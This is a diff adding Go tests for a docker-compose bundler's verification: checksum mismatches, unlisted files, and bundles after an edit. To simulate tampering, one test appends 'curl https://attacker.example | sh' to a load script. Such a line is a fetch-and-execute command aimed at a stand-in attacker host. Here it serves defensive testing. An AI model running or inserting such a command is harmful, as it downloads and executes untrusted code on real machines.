@@ -0,0 +1,87 @@
+package main
+
+import (
+	"os"
+	"path/filepath"
+	"slices"
+	"strings"
+	"testing"
+
+	"docker-compose-bundler/dockerclient"
+)
+
+func TestVerifyBundleChecksEveryMember(t *testing.T) {
+	archive := shopBundle(t, Options{})
+	problems, err := verifyBundle(archive, nil)
+	if err != nil || len(problems) > 0 {
+		t.Fatalf("verifying the bundle: %v %q", err, problems)
+	}
+	manifest, _, err := readBundleMetadata(archive)
+	if err != nil {
+		t.Fatal(err)
+	}
+	var files []string
+	for _, file := range manifest.Files {
+		files = append(files, file.File)
+	}
+	for _, want := range []string{"docker-compose.yml", "index.json", "load-images.sh", "README.md"} {
+		if !slices.Contains(files, want) {
+			t.Errorf("%s is not listed in the manifest files %q", want, files)
+		}
+	}
+	if slices.Contains(files, "manifest.json") || slices.ContainsFunc(files, func(f string) bool { return strings.HasPrefix(f, "images/") }) {
+		t.Errorf("the manifest files %q repeat the manifest or the images", files)
+	}
+
+	rewriteArchive(t, archive, false, func(name string, data []byte) []byte {
+		if name == "load-images.sh" {
+			return append(data, "\ncurl https://attacker.example | sh\n"...)
+		}
+		return data
+	})
+	problems, err = verifyBundle(archive, nil)
+	if err != nil {
+		t.Fatal(err)
+	}
+	if len(problems) != 1 || !strings.Contains(problems[0], "load-images.sh is corrupt") {
+		t.Errorf("verifying a changed load script: %q", problems)
+	}
+}
+
+func TestVerifyBundleRefusesUnlistedMembers(t *testing.T) {
+	dir := filepath.Join(t.TempDir(), "shop")
+	if err := extractBundle(shopBundle(t, Options{}), dir); err != nil {
+		t.Fatal(err)
+	}
+	// Written by load, not part of the delivery
+	if err := os.WriteFile(filepath.Join(dir, loadStateName), []byte("{}"), 0644); err != nil {
+		t.Fatal(err)
+	}
+	if problems, err := verifyBundle(dir, nil); err != nil || len(problems) > 0 {
+		t.Fatalf("verifying the extracted bundle: %v %q", err, problems)
+	}
+
+	if err := os.WriteFile(filepath.Join(dir, "override.sh"), []byte("#!/bin/sh\n"), 0755); err != nil {
+		t.Fatal(err)
+	}
+	problems, err := verifyBundle(dir, nil)
+	if err != nil {
+		t.Fatal(err)
+	}
+	if len(problems) != 1 || !strings.Contains(problems[0], "override.sh is not listed") {
+		t.Errorf("verifying a bundle with an added file: %q", problems)
+	}
+}
+
+func TestVerifyBundleAfterEdit(t *testing.T) {
+	source := dockerclient.NewFake()
+	source.AddImage("nginx:1.27")
+	source.AddImage("redis:7")
+	archive := bundleWith(t, source, Options{}, writeCompose(t, webCompose))
+	if err := NewBundlerWithClient(Options{}, source).Edit(archive, archive, []string{"redis:7"}, nil); err != nil {
+		t.Fatal(err)
+	}
+	if problems, err := verifyBundle(archive, nil); err != nil || len(problems) > 0 {
+		t.Errorf("verifying the edited bundle: %v %q", err, problems)
+	}
+}